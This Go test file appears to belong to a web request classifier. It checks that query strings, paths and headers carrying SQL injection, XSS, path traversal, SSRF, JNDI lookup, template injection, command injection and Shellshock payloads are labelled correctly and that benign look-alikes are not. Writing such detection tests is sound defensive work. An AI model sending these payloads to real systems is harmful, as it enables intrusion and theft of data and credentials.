package enrich

import (
	"testing"

	"goshawk/event"
)

func TestPayloadsAreKnown(t *testing.T) {
	f := func(query string, want event.Ploy) {
		t.Helper()
		if got, _ := inQuery(query); got != want {
			t.Errorf("%s: %v, want %v", query, got, want)
		}
	}
	for _, q := range []string{"id=1%27%20OR%20%271%27=%271", "id=1+AND+1=2", "q=%27%20UNION%20SELECT%20NULL,NULL--%20-", "id=1/**/AND/**/1=1--", "q=uNiOn+sElEcT+1,2", "id=1%2527%2520OR%2520%25271%2527=%25271",
		"sort=1%20ORDER%20BY%2010--", "q=admin'--", "user[$ne]=x", "id=1%20AND%20ASCII(SUBSTRING((SELECT%20password%20FROM%20users%20LIMIT%201),3,1))%3E77", "id=1);SELECT%20pg_sleep(5)--"} {
		f(q, event.SQL)
	}
	for _, q := range []string{"q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "next=javascript:alert(document.cookie)", "q=%253Csvg/onload=confirm(1)%253E"} {
		f(q, event.Script)
	}
	for _, q := range []string{"file=../../../../etc/passwd", "page=..%2f..%2fetc%2fpasswd", "page=....//....//etc/passwd", "lang=/etc/passwd%00.png", "f=..%5c..%5cwindows%5cwin.ini", "f=%2e%2e%252f%2e%2e%252fx"} {
		f(q, event.Traversal)
	}
	for _, q := range []string{"url=http://169.254.169.254/latest/meta-data/", "url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin", "u=file:///etc/hosts", "u=gopher://127.0.0.1:6379/_INFO", "img=http://[::1]/"} {
		f(q, event.Inward)
	}
	f("x=$%7Bjndi:ldap://x.example/a%7D", event.Lookup)
	f("x=${${::-j}ndi:ldap://x.example/a}", event.Lookup)
	f("x=%7B%7B7*7%7D%7D", event.Template)
	f("name={{''.__class__.__mro__[1]}}", event.Template)
	for _, q := range []string{"host=;id", "host=x%7Cwhoami", "h=%60id%60", "h=$(sleep%205)", "h=a%26%26%20cat%20/etc/hosts", "h=;%20ping%20-c%203%20x.example"} {
		f(q, event.Command)
	}
	// What people and programs send that looks like it.
	for _, q := range []string{"", "page=2&limit=50", "q=red+shoes", "q=O%27Brien", "q=O'Reilly+SQL+in+a+nutshell", "q=select+*+from+where+to+start", "q=union+select+committee+report", "q=how+to+use+%3Cscript%3E+tags",
		"q=vector%3Cint%3E+c%2B%2B", "q=if+(a+%3E+b)+alert", "q=1'+6%22+x+2'+4%22+table", "q=%7B%7B+mustache+%7D%7D+template", "q=$%7BHOME%7D+variable", "q=../../+relative+path", "q=/etc/passwd+explained",
		"q=sleep(5)+song", "q=javascript:+the+good+parts", "q=http://localhost:3000+not+working", "q=cat+%7C+grep+mug", "q=$(document).ready", "q=onerror%3D+handler",
		"filter=price+%3E%3D+10+AND+(size+%3D+'M'+OR+size+%3D+'L')", "$filter=name+eq+'Smith'+and+age+gt+5", "redirect_uri=http://localhost:3000/callback", "next=https%3A%2F%2Fshop.example%2Faccount%3Ftab%3Dorders",
		"query=SELECT+count()+FROM+events+WHERE+ts+%3E+5", "query=sum(rate(http_requests_total%7Bjob%3D%22x%22%7D%5B5m%5D))+by+(le)", "query=%7B+user(id:+5)+%7B+name+%7D+%7D",
		"token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln%2Bx%3D%3D", "data=QUJD%2BREVG%2F%3D%3D", "sort=name;id", "from=2026-11-23T10:00:00Z&to=2026-11-24T10:00:00%2B01:00", "q=rock+'n'+roll+--+best+of", "ids=1,2,3", "email=a.b%2Btag@example.com"} {
		f(q, event.NoPloy)
	}
}

func TestPayloadsInPathsAndHeaders(t *testing.T) {
	path := func(p string, want event.Ploy) {
		t.Helper()
		if got, _ := inPath(p); got != want {
			t.Errorf("path %s: %v, want %v", p, got, want)
		}
	}
	path("/api/orders/{id}", event.NoPloy)
	path("/api/users/O'Brien/posts(draft)", event.NoPloy)
	path("/static/../img/a", event.NoPloy)
	path("/wiki/C%2B%2B_(language)", event.NoPloy)
	path("/api/orders/1'%20OR%20'1'='1", event.SQL)
	path("/cgi-bin/%2e%2e/%2e%2e/bin/sh", event.Traversal)
	path("/x/..;/manager/html", event.Traversal)
	path("/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E", event.Script)
	agent := func(a string, want event.Ploy) {
		t.Helper()
		if got, _ := inHeader(a); got != want {
			t.Errorf("agent %s: %v, want %v", a, got, want)
		}
	}
	agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", event.NoPloy)
	agent("Joe's Bot/1.0 (it's a crawler; id 7)", event.NoPloy)
	agent("${jndi:ldap://x.example/a}", event.Lookup)
	agent("() { :; }; /bin/bash -c id", event.Command)
	agent("Mozilla/5.0' AND SLEEP(5)-- -", event.SQL)
}

func BenchmarkPayload(b *testing.B) {
	for _, q := range []string{"page=2&limit=50&sort=created_at", "q=red%20running%20shoes&from=2026-11-23T10:00:00Z", "q=1%27%20UNION%20SELECT%20NULL,NULL--%20-"} {
		b.Run(q, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				inQuery(q)
			}
		})
	}
}
